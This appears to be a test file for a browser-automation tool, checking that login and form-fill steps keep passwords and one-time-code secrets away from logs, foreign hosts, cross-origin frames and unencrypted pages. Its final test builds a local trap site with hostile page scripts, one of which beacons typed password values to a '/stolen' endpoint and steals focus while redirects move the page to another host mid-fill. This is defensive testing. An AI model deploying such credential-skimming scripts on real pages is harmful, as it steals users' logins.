// browser.login and browser.fill against a site that checks: where a credential goes, and where it never does.
import type { ServerResponse } from "node:http";
import { Secret, TOTP } from "otpauth";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { mask } from "../../../src/base/mask.ts";
import { checkDestination } from "../../../src/nodes/http/credential.ts";
import { type BrowserSite, openBrowserSite, type SiteRequest } from "../../support/browser-site.ts";
import { anItem } from "../one-node.ts";
import { credentials, runBrowserFlow } from "./browser-flow.ts";

const password = "c4nary-hunter2-Pass";
const shared = "JBSWY3DPEHPK3PXPJBSWY3DP";
const user = "ada@shop.example";

const form = (action: string, fields: string) =>
  `<form method=post action="${action}">${fields}<button>Go</button></form>`;
const to = (response: ServerResponse, location: string, cookie?: string) =>
  response.writeHead(303, { location, ...(cookie && { "set-cookie": cookie }) }).end();
const whole = (request: SiteRequest) => /step=in/.test(request.headers.cookie ?? "");

const loginForm = `<h1>Sign in</h1>${form("/check", "<input name=username><input name=password type=password>")}`;
const home = (request: SiteRequest, response: ServerResponse) =>
  response.setHeader("content-type", "text/html").end(whole(request) ? "<h1>Welcome</h1>" : "<h1>Stranger</h1>");

function isCode(code: string | null): boolean {
  return TOTP.validate({ token: code ?? "", secret: Secret.fromBase32(shared), window: 1 }) !== null;
}

const pages = {
  "/login": loginForm,
  "/check": ({ form }: SiteRequest, response: ServerResponse) => {
    const isRight = form.get("username") === user && form.get("password") === password;
    to(response, isRight ? "/code" : "/login", isRight ? "step=half" : undefined);
  },
  "/code": form("/code-check", "<input name=otp inputmode=numeric>"),
  "/code-check": ({ form, headers }: SiteRequest, response: ServerResponse) => {
    const isRight = /step=half/.test(headers.cookie ?? "") && isCode(form.get("otp"));
    to(response, isRight ? "/home" : "/code", isRight ? "step=in" : undefined);
  },
  "/home": home,
  // The name on a page of its own, and no form around the password.
  "/name": form("/word", "<input type=email>"),
  "/word": `<input type=password id=p><script>p.onkeydown=async e=>{if(e.key==="Enter"){
    const r=await fetch("/check",{method:"POST",body:new URLSearchParams({username:"${user}",password:p.value})});
    location=r.url}}</script>`,
  "/away": (_: SiteRequest, response: ServerResponse) => to(response, `${site.other}/login`),
};

let site: BrowserSite;
beforeEach(async () => {
  site = await openBrowserSite({
    ...pages,
    "/frame": (_, response) =>
      void response
        .setHeader("content-type", "text/html")
        .end(`<iframe id=f src="${site.other}/login"></iframe><iframe id=own src="/login"></iframe>`),
    "/around": (_, response) =>
      void response.setHeader("content-type", "text/html").end(`<iframe id=f src="${site.url}/login"></iframe>`),
    "/written": `<iframe id=f srcdoc="<input type=password>"></iframe>`,
  });
});
afterEach(() => site[Symbol.asyncDispose]());

const item = (fields: object = {}, hosts: readonly string[] = [site.host]) =>
  anItem("login", { username: user, password, totp_secret: shared, ...fields }, hosts);
const login = (config: object = {}) => ({ type: "browser.login", config: { credentials, timeout: "15s", ...config } });
const heading = { type: "browser.extract", config: { selector: "h1" } };

describe("browser.login", () => {
  test("signs in with user name, password and one-time code, and tells none of them", async () => {
    const { outcome, msg, told } = await runBrowserFlow([login({ url: `${site.url}/login` }), heading], {
      items: [item({}, [])],
    });
    expect(outcome).toMatchObject({ status: "succeeded" });
    expect(msg?.extracted).toBe("Welcome");
    expect(told).not.toContain(password);
    expect(told).not.toContain(shared);
  });

  test("goes to the item's own address, asks for the name first, and presses Enter where there is no form", async () => {
    const items = [item({ url: `${site.url}/name` })];
    const { outcome, msg } = await runBrowserFlow([login({ signedIn: "h1" }), heading], { items });
    expect(outcome).toMatchObject({ status: "succeeded" });
    expect(msg?.extracted).toBe("Welcome");
  });

  const wrong: [what: string, fields: object][] = [
    ["the password is wrong", { password: "c4nary-hunter2-Wrong" }],
    ["the one-time code is wrong", { totp_secret: "KRSXG5CTMVRXEZLUKRSXG5CT" }],
  ];
  test.each(wrong)("says so when %s", async (_, fields) => {
    const run = await runBrowserFlow([login({ url: `${site.url}/login` })], { items: [item(fields)] });
    expect(run.outcome.error?.code).toBe("not-signed-in");
    expect(run.told).not.toContain("c4nary");
  });

  test("says that an item has no one-time code when the site asks for it", async () => {
    const items = [anItem("login", { username: user, password }, [site.host])];
    const { outcome } = await runBrowserFlow([login({ url: `${site.url}/login` })], { items });
    expect(outcome.error).toMatchObject({ code: "bad-input", message: expect.stringContaining("totp_secret") });
  });

  test("brings nothing to a host that a page redirected to", async () => {
    const { outcome } = await runBrowserFlow([login({ url: `${site.url}/away` })], { items: [item()] });
    expect(outcome.error?.code).toBe("not-permitted");
    expect(site.seen.join()).not.toContain(encodeURIComponent(user));
  });
});

describe("browser.fill with an item", () => {
  const fill = (config: object) => ({
    type: "browser.fill",
    config: { credentials, selector: "input[type=password]", timeout: "5s", ...config },
  });
  const goto = (path: string, origin = site.url) => ({ type: "browser.goto", config: { url: `${origin}${path}` } });

  test("fills a frame of an allowed host", async () => {
    const value = {
      type: "browser.extract",
      config: { selector: "input[type=password]", frames: ["#own"], what: "value" },
    };
    const { outcome, msg } = await runBrowserFlow([goto("/frame"), fill({ frames: ["#own"] }), value], {
      items: [item()],
    });
    expect(outcome).toMatchObject({ status: "succeeded" });
    // It is there, and extracting leaves it out.
    expect(msg?.extracted).toBe(mask);
  });

  const refused: [what: string, path: string, frames: string[]][] = [
    ["a frame of another host", "/frame", ["#f"]],
    ["a frame that a page of no allowed host is around", "/around", ["#f"]],
    ["a frame that has no address", "/written", ["#f"]],
  ];
  test.each(refused)("refuses %s", async (_, path, frames) => {
    const origin = path === "/around" ? site.other : site.url;
    const { outcome } = await runBrowserFlow([goto(path, origin), fill({ frames })], { items: [item()] });
    expect(outcome.error?.code).toBe("not-permitted");
  });

  test("refuses a page in the clear where the flow asked for an encrypted one", () => {
    expect(() => checkDestination(item(), new URL(site.url), new URL("https://shop.example"))).toThrow(/plain HTTP/);
  });

  const other: [what: string, category: string, fields: object, field: string | undefined, expected: string][] = [
    ["the user name", "login", { username: user, password }, "username", user],
    [
      "a field of a custom item",
      "custom",
      { fields: [{ name: "pin", value: "plain", secret: false }] },
      "pin",
      "plain",
    ],
  ];
  test.each(other)("fills %s, which is no secret", async (_, category, fields, field, expected) => {
    const value = { type: "browser.extract", config: { selector: "[name=username]", what: "value" } };
    const filled = fill({ selector: "[name=username]", field });
    const items = [anItem(category, fields, [site.host])];
    const { outcome, msg } = await runBrowserFlow([goto("/login"), filled, value], { items });
    expect(outcome).toMatchObject({ status: "succeeded" });
    expect(msg?.extracted).toBe(expected);
  });

  test("says which field an item does not have", async () => {
    const { outcome } = await runBrowserFlow([goto("/login"), fill({ field: "pin" })], { items: [item()] });
    expect(outcome.error).toEqual({ code: "bad-input", message: expect.stringContaining("pin") });
  });
});

test("a page that goes to another host just as it is filled takes nothing along", { timeout: 60_000 }, async () => {
  const reported: string[] = [];
  const leave = (page: string) => `location=location.href.replace("127.0.0.1","localhost").replace("${page}","thief")`;
  await using trap = await openBrowserSite({
    "/leaving": `<input type=password onfocus='${leave("leaving")}'>`,
    "/later": `<input type=password><script>setTimeout(()=>{${leave("later")}},Math.random()*120)</script>`,
    "/embedded": `<input type=password><iframe id=f></iframe><script>f.src=${leave("embedded").slice(9)}</script>`,
    // It reports all that is written into its field, and takes the keyboard all the time.
    "/thief": `<input type=password autofocus oninput="navigator.sendBeacon('/stolen',this.value)">
      <script>setInterval(()=>document.querySelector("input").focus(),1)</script>`,
    "/stolen": ({ body }, response) => {
      reported.push(body);
      response.end();
    },
  });
  const visit = async (path: string, filling: object) => {
    const { outcome } = await runBrowserFlow(
      [
        { type: "browser.goto", config: { url: `${trap.url}${path}` } },
        { type: "browser.fill", config: { selector: "input", timeout: "3s", ...filling } },
        { type: "core.delay", config: { for: "200ms" } },
      ],
      { items: [anItem("login", { password }, [trap.host])] },
    );
    return outcome.error?.code ?? outcome.status;
  };
  expect(await visit("/thief", { value: "bait" })).toBe("succeeded");
  expect(reported).toContain("bait");
  const ends = new Set<string>();
  for (const path of ["/leaving", "/embedded", ...Array<string>(8).fill("/later")]) {
    ends.add(await visit(path, { credentials }));
  }
  expect(ends).toContain("succeeded");
  expect(reported.filter((text) => text !== "bait")).toEqual([]);
  expect(trap.seen.join()).not.toContain(password);
});
